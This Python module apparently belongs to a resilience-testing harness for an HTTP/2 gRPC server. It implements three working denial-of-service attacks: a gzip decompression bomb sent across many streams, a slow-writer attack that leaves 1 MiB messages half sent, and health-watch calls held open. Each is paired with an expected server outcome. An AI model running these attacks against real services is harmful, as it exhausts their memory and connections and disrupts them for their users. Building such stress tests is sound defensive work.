"""Attacks by the bodies of requests, and by calls that last."""

import struct
import time
import zlib

import http2
from attack import BEARS, REFUSES, Attack

MIB = 2 ** 20
GZIP_HEAD = b"\x1f\x8b\x08\0\0\0\0\0\0\xff"


def gzip_bomb(mib):
    """A gzip file of so many MiB of zeros: one deflated MiB, again and again."""
    deflate = zlib.compressobj(9, zlib.DEFLATED, -15)
    piece = deflate.compress(bytes(MIB)) + deflate.flush(zlib.Z_FULL_FLUSH)
    checksum = 0
    for _ in range(mib):
        checksum = zlib.crc32(bytes(MIB), checksum)
    return GZIP_HEAD + piece * mib + deflate.flush() + struct.pack("<II", checksum, mib * MIB % 2 ** 32)


class Body:
    """A request's body on its way, as the windows allow."""

    def __init__(self, peer, stream, data, ends):
        self.peer, self.stream, self.data, self.ends = peer, stream, memoryview(data), ends

    @property
    def left(self):
        return self.peer.open and len(self.data) > 0

    def go_on(self):
        """Sends what the windows have room for; returns whether that was something."""
        room = min(self.peer.send_window(self.stream), http2.FRAME_BYTES_MAX, len(self.data))
        if room <= 0 or not self.peer.room:
            return False
        last = self.ends and room == len(self.data)
        self.peer.send_data(self.stream, self.data[:room], http2.END_STREAM if last else 0)
        self.data = self.data[room:]
        return True


def send_bodies(scene, bodies, patience_s):
    """Until all have left, or the time is over and the server has given no more window for so long."""
    progress = time.monotonic()
    while any(body.left for body in bodies):
        moved = any([body.go_on() for body in bodies if body.left])
        scene.wires.turn(0 if moved else 0.02)
        if moved:
            progress = time.monotonic()
        elif not scene.time_left() and time.monotonic() > progress + patience_s:
            break


def bombs(scene):
    """A server that knows no gzip may say so at once; then the connection is given up with the rest unsent."""
    bomb = http2.message(gzip_bomb(scene.size["mib"]), compressed=1)
    block = http2.request_block(http2.PUT, [("grpc-encoding", "gzip")])

    def act():
        peer = scene.connect()
        streams = [2 * number + 1 for number in range(scene.size["streams"])]
        bodies = [Body(peer, stream, bomb, ends=True) for stream in streams]
        for stream in streams:
            peer.send(http2.frame(http2.HEADERS, http2.END_HEADERS, stream, block))
            peer.on_finished = lambda stream: bodies.__setitem__((stream - 1) // 2, Body(peer, stream, b"", True))
        # Only a whole message has an answer: a busy machine may give the next window after the attack's seconds.
        send_bodies(scene, bodies, scene.patience_s)
        scene.run(scene.patience_s, lambda: not peer.open or peer.finished >= len(streams))
        if peer.open and peer.finished >= len(streams):
            peer.leave("left by the attacker")
        return [peer]

    scene.again_and_again(act)
    scene.note(f"{len(bomb) // 1000} kB that unfold to {scene.size['mib']} MiB")


def slow_writer(scene):
    """Half of a message of 1 MiB on each of many streams."""
    block = http2.request_block(http2.PUT)
    half = struct.pack(">BI", 0, MIB) + bytes(MIB // 2)
    bodies = []
    for _ in range(scene.size["connections"]):
        peer = scene.connect()
        for number in range(scene.size["streams"]):
            stream = 2 * number + 1
            peer.send(http2.frame(http2.HEADERS, http2.END_HEADERS, stream, block))
            bodies.append(Body(peer, stream, half, ends=False))
    scene.run(0.2)
    send_bodies(scene, bodies, 0)
    scene.run_to_end()
    scene.note(f"{sum(peer.sent for peer in scene.peers) // MIB} of {len(bodies) // 2} MiB were taken")


def held_streams(scene):
    """Calls that never end: watching the server's health."""
    block = http2.request_block(http2.HEALTH_WATCH)
    for _ in range(scene.size["connections"]):
        peer = scene.connect()
        for number in range(scene.size["streams"]):
            peer.send(http2.call(2 * number + 1, block, b""))
        scene.wires.turn(0)
    asked = scene.size["connections"] * scene.size["streams"]
    scene.run_to_end()
    held = asked - sum(peer.finished for peer in scene.peers) if any(peer.open for peer in scene.peers) else 0
    scene.note(f"{held} of {asked} calls held")


ATTACKS = {
    "gzip-bomb": Attack(
        "compressed requests that unfold", bombs, dict(mib=256, streams=2, connections=10),
        dict(mib=1500, streams=4, connections=20), REFUSES, 64),
    "slow-writer": Attack(
        "requests of which half is sent", slow_writer, dict(connections=12, streams=280),
        dict(connections=16, streams=280), BEARS, 224),
    "held-streams": Attack(
        "calls that never end", held_streams, dict(connections=4, streams=500), dict(connections=20, streams=1000),
        BEARS, 96),
}
